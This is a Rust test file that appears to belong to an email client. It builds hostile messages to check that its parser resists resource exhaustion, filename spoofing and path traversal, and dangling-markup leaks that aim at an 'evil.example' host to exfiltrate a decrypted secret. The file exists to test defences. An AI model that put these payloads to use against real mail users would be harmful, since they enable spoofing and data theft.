//! Messages that nobody would write but to do harm. Made here, never kept as files.

use base64::Engine as _;

use super::super::{Notice, Reading, Trouble, attachment, inner_message, read_message};

fn mixed(parts: &str) -> String {
    format!("Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n{parts}--b--\r\n")
}

fn part(header: &str, body: &str) -> String {
    format!("--b\r\n{header}\r\n\r\n{body}\r\n")
}

/// Whatever a message is, its reading is bounded and its attachments are there.
fn holds(raw: &[u8]) -> Reading {
    let reading = read_message(raw);
    assert!(reading.text.len() <= (1 << 20) + 4 && reading.attachments.len() <= 500 && reading.notices.len() <= 600);
    for one in reading.attachments.iter().rev().take(3) {
        assert_eq!(attachment(raw, one.index).unwrap().1.len(), one.size);
    }
    reading
}

#[test]
fn ten_thousand_attachments_are_cut_and_the_rest_is_said() {
    let raw = mixed(&part("Content-Type: application/pdf; name=a.pdf", "%PDF").repeat(10_000));
    let reading = holds(raw.as_bytes());
    assert_eq!((reading.attachments.len(), reading.trouble), (500, Some(Trouble::TooLong)));
    assert!(attachment(raw.as_bytes(), 500).is_none());
}

#[test]
fn five_thousand_parts_in_parts_keep_what_is_outside() {
    for kind in ["mixed", "alternative", "related", "signed; protocol=\"application/pgp-signature\"", "report"] {
        let mut raw =
            format!("Subject: x\r\nContent-Type: multipart/{kind}; boundary=o\r\n\r\n--o\r\n\r\ndehors\r\n--o\r\n");
        for level in 0..5000 {
            raw.push_str(&format!("Content-Type: multipart/{kind}; boundary=b{level}\r\n\r\n--b{level}\r\n"));
        }
        let reading = std::thread::Builder::new()
            .stack_size(512 * 1024)
            .spawn(move || holds(raw.as_bytes()))
            .unwrap()
            .join()
            .unwrap();
        assert!(reading.text.contains("dehors"), "{kind}: {reading:?}");
    }
}

#[test]
fn broken_boundaries_leave_no_blank() {
    let words = "Rendez-vous à la salle 12";
    for raw in [
        // Nothing begins, nothing ends, the wrong one, none named, an empty one, one too long.
        format!("Subject: x\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n{words}\r\n"),
        format!("Subject: x\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n{words}"),
        format!("Subject: x\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--c\r\n\r\n{words}\r\n--c--\r\n"),
        format!("Subject: x\r\nContent-Type: multipart/mixed\r\n\r\n--b\r\n\r\n{words}\r\n--b--\r\n"),
        format!("Subject: x\r\nContent-Type: multipart/mixed; boundary=\"\"\r\n\r\n--\r\n\r\n{words}\r\n----\r\n"),
        format!(
            "Subject: x\r\nContent-Type: multipart/alternative; boundary={0}\r\n\r\n--{0}\r\n\r\n{words}\r\n",
            "b".repeat(5000)
        ),
        format!("Subject: x\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b--\r\n{words}\r\n"),
        format!("Subject: x\r\nContent-Type: text/html\r\n\r\n<script>{words}</script>"),
        format!("Subject: x\r\nContent-Type: text/html\r\n\r\n<!-- {words}"),
    ] {
        let reading = holds(raw.as_bytes());
        let html = reading.html.as_ref().map_or("", |html| html.html.as_str());
        assert!(reading.text.contains("salle 12") || html.contains("salle 12"), "{raw}: {reading:?}");
    }
    // A letter of a subject alone is one, and so is one with empty parts.
    for raw in [
        "Subject: x\r\n\r\n".to_owned(),
        mixed(&part("Content-Type: text/plain", "")),
        "Subject: x\r\n\r\n \r\n".to_owned(),
    ] {
        assert_eq!((holds(raw.as_bytes()).trouble, read_message(raw.as_bytes()).text.trim()), (None, ""), "{raw}");
    }
}

#[test]
fn overlong_headers_nuls_and_wrong_encodings_are_read() {
    let long = "x".repeat(2_000_000);
    for raw in [
        format!("Subject: {long}\r\n\r\ntexte\r\n"),
        format!("Subject: a\r\n{}\r\ntexte\r\n", "X: y\r\n".repeat(200_000)),
        format!(
            "Subject: a\r\n{}\r\n\r\ntexte\r\n",
            "Content-Type: text/plain;\r\n".to_owned() + &" a=b;\r\n".repeat(50_000)
        ),
        format!("To: {}\r\n\r\ntexte\r\n", "a@b.example, ".repeat(100_000)),
        format!("Subject: {}\r\n\r\ntexte\r\n", "=?utf-8?q?=C3=A9?= ".repeat(50_000)),
        "Subject: a\0b\r\n\r\nte\0xte\0\r\n".to_owned(),
        "Subject: a\r\nContent-Transfer-Encoding: base64\r\n\r\nAAA=BBB!texte".to_owned(),
        "Subject: a\r\nContent-Type: text/plain; charset=\"\0\"\r\nContent-Transfer-Encoding: x-yenc\r\n\r\ntexte"
            .to_owned(),
        "Subject: a\r\nContent-Type: text/plain; format=flowed\r\n\r\n".to_owned() + &"> texte ".repeat(100_000),
    ] {
        let reading = holds(raw.as_bytes());
        assert!(
            !reading.text.contains('\0')
                && reading.headers.subject.chars().count() <= 1000
                && reading.headers.to.len() <= 500
        );
    }
}

#[test]
fn names_cannot_turn_around_or_hide_what_a_file_is() {
    for (written, shown) in [
        ("\"facture\u{202e}fdp.exe\"", "facturefdp.exe"),
        ("\"facture.pdf\u{200f}\u{2066}.exe\"", "facture.pdf.exe"),
        ("\"..\\..\\x.pdf\"", "x.pdf"),
        ("\"/etc/passwd\"", "passwd"),
        ("\".bashrc\"", "bashrc"),
        ("\"a\0b.pdf\"", "ab.pdf"),
        ("\"CON:.pdf\"", "CON_.pdf"),
    ] {
        let raw = mixed(&part(
            &format!("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename={written}"),
            "x",
        ));
        assert_eq!(holds(raw.as_bytes()).attachments[0].name, shown, "{written}");
    }
    let raw = "From: \"\u{202e}gro.elpmaxe@nimda\" <x@evil.example>\r\nSubject: \u{2067}x\r\n\r\n";
    let headers = holds(raw.as_bytes()).headers;
    assert_eq!(headers.subject, "x");
    assert!(!headers.from.unwrap().name.unwrap().contains('\u{202e}'));
}

#[test]
fn what_one_part_leaves_open_takes_in_nothing_of_another() {
    let secret = "SECRET-DECHIFFRE";
    for open in [
        "<img src=\"http://evil.example/?",
        "<a href='https://evil.example/?",
        "<img alt=\"",
        "<!--",
        "<style>",
        "<textarea>",
        "<title>",
        "<script>",
        "<p style=\"x:",
        "<plaintext>",
        "<svg><style>",
        "<noscript>",
        "<template>",
        "<iframe srcdoc=\"",
        "<a href=https://evil.example/?q=",
    ] {
        let html = |body: &str| part("Content-Type: text/html; charset=utf-8", body);
        let texts = [html(secret), part("Content-Type: text/plain; charset=utf-8", secret)];
        for text in texts {
            let raw = mixed(&format!("{}{text}{}", html(open), html("\"></a>-->'></style>")));
            let reading = holds(raw.as_bytes());
            let shown = reading.html.unwrap().html;
            assert!(shown.contains(secret), "{open} hid it: {shown}");
            for tag in shown.split('<').skip(1).filter_map(|piece| piece.split_once('>')) {
                assert!(!tag.0.contains(secret), "{open} took it in: {shown}");
            }
            assert!(reading.text.contains(secret), "{open}: {}", reading.text);
        }
    }
}

#[test]
fn archives_are_not_opened() {
    // Each names what it would become: gigabytes. What is shown is what was sent.
    let zip = base64::engine::general_purpose::STANDARD.encode(b"PK\x03\x04\x14\0\0\0\x08\0");
    for (kind, name) in [
        ("application/zip", "a.zip"),
        ("application/gzip", "a.tgz"),
        ("application/x-tar", "a.tar"),
        ("application/java-archive", "a.jar"),
    ] {
        let raw =
            mixed(&part(&format!("Content-Type: {kind}; name={name}\r\nContent-Transfer-Encoding: base64"), &zip));
        let reading = holds(raw.as_bytes());
        assert_eq!((reading.attachments.len(), reading.attachments[0].size), (1, 10));
    }
}

#[test]
fn kinds_of_messages_are_said() {
    let forwarded = |subject: &str| Notice::Forwarded { attachment: 0, subject: subject.to_owned(), from: None };
    for (raw, expected) in [
        ("Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--b--\r\n".to_owned(), vec![Notice::PgpEncrypted]),
        ("Subject: x\r\n\r\nVoici\r\n-----BEGIN PGP MESSAGE-----\r\nx\r\n".to_owned(), vec![Notice::PgpEncrypted]),
        ("Subject: x\r\n\r\n-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: x\r\n\r\nOui\r\n".to_owned(), vec![Notice::PgpSigned]),
        ("Subject: x\r\n\r\nIl écrit -----BEGIN PGP MESSAGE----- au milieu\r\n".to_owned(), vec![]),
        ("Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=b\r\n\r\n--b\r\n\r\nOui\r\n--b\r\nContent-Type: application/pgp-signature\r\n\r\nx\r\n--b--\r\n".to_owned(), vec![Notice::PgpSigned]),
        (mixed(&part("Content-Type: application/octet-stream; name=x.bin\r\nContent-Transfer-Encoding: base64", "eJ8+IgAA")), vec![Notice::Winmail { attachment: 0 }]),
        (mixed(&part("Content-Type: application/octet-stream; name=WINMAIL.DAT", "x")), vec![Notice::Winmail { attachment: 0 }]),
        (mixed(&part("Content-Type: message/rfc822", "Subject: Dedans\r\n\r\nx")), vec![forwarded("Dedans")]),
        ("Subject: x\r\nAuto-Submitted: auto-replied (vacation)\r\n\r\nAbsente\r\n".to_owned(), vec![Notice::AutomaticAnswer]),
        ("Subject: x\r\nAuto-Submitted: auto-generated\r\n\r\nx\r\n".to_owned(), vec![Notice::Automatic]),
        ("Subject: x\r\nAuto-Submitted: no\r\nPrecedence: list\r\n\r\nx\r\n".to_owned(), vec![]),
    ] {
        assert_eq!(holds(raw.as_bytes()).notices, expected, "{raw}");
    }
}

#[test]
fn a_message_in_a_message_is_opened_so_deep_and_no_deeper() {
    let mut raw = "Subject: fond\r\n\r\nau fond\r\n".to_owned();
    for level in 0..12 {
        raw = format!(
            "Subject: niveau {level}\r\nContent-Type: multipart/mixed; boundary=b{level}\r\n\r\n--b{level}\r\nContent-Type: message/rfc822\r\n\r\n{raw}\r\n--b{level}--\r\n"
        );
    }
    let raw = raw.as_bytes();
    assert_eq!(read_message(&inner_message(raw, &[0]).unwrap()).headers.subject, "niveau 10");
    assert_eq!(read_message(&inner_message(raw, &[0; 8]).unwrap()).headers.subject, "niveau 3");
    assert!(
        inner_message(raw, &[0; 9]).is_none()
            && inner_message(raw, &[]).is_none()
            && inner_message(raw, &[1]).is_none()
    );
    let file = mixed(&part("Content-Type: application/pdf", "Subject: x\r\n\r\nx"));
    assert!(inner_message(file.as_bytes(), &[0]).is_none());
}

#[test]
fn the_teacher_chooses_between_text_and_html() {
    use super::super::Form;
    let both = |text: &str, html: &str| {
        read_message(
            format!(
                "Subject: x\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n{text}\r\n\
                 --b\r\nContent-Type: text/html\r\n\r\n{html}\r\n--b--\r\n"
            )
            .as_bytes(),
        )
    };
    let usual = both("Bonjour", "<p>Bonjour</p>");
    assert_eq!((usual.form(Form::Text), usual.form(Form::Html)), (Form::Text, Form::Html));
    let stub = both("Your mail client does not show HTML.", &"<p>Bonjour, voici la lettre.</p>".repeat(10));
    assert_eq!(stub.form(Form::Text), Form::Html);
    assert_eq!(read_message(b"Subject: x\r\n\r\nBonjour").form(Form::Html), Form::Text);
}
